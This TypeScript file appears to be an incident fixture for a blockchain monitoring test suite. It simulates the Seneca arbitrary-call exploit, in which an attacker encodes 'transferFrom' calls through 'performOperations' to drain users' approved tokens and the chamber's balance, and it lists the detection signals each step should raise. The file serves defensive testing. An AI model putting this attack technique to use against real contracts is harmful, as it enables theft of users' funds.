import { encodeFunctionData } from "viem";
import type { Incident } from "../../scene.ts";

const unit = 10n ** 18n;

/** A contract calls what it is asked to call, also the token with the allowances that its users gave. */
export const chamberOperationsAbused: Incident = {
  name: "Arbitrary calls use the allowances of a chamber (Seneca, February 2024)",
  covers: ["G6"],
  async setUp({ chain, users, deployer, attacker, coin, fund }) {
    const token = await coin("PT-rsETH", 18, 1_000_000);
    const chamber = await chain.deploy("OperationChamber");
    await fund(token, 2_000n * unit, chamber);
    await chain.run(
      token.call(deployer, "transfer", [chamber.address, 5_000n * unit]),
      ...users.map((user) => chamber.call(user, "addCollateral", [token.address, 200n * unit])),
    );
    const take = (victim: string | undefined) =>
      chamber.call(attacker, "performOperations", [
        token.address,
        encodeFunctionData({
          abi: token.abi,
          functionName: "transferFrom",
          args: [victim, attacker, 400n * unit],
        }),
      ]);
    return {
      watched: { chamber: chamber.address, token: token.address },
      traffic: ({ times, pick, amount }) =>
        ["addCollateral", "removeCollateral"].flatMap((one) =>
          Array.from({ length: times(30) }, () =>
            chamber.call(pick(users), one, [token.address, amount(3n * unit)]),
          ),
        ),
      attack: [
        { at: 0, send: () => users.slice(0, 3).map(take) },
        {
          at: 12,
          send: () => users.slice(3, 12).map(take),
          signals: [
            {
              on: "token",
              what: "many victims of one recipient",
              by: ["large_transfer", "event_frequency", "event_value"],
              severity: "warning",
            },
          ],
        },
        {
          at: 60,
          send: () => [
            chamber.call(attacker, "performOperations", [
              token.address,
              encodeFunctionData({
                abi: token.abi,
                functionName: "transfer",
                args: [attacker, 6_000n * unit],
              }),
            ]),
          ],
          signals: [
            { on: "chamber", what: "collateral drained", by: ["token_balance"], severity: "critical" },
          ],
        },
      ],
    };
  },
};
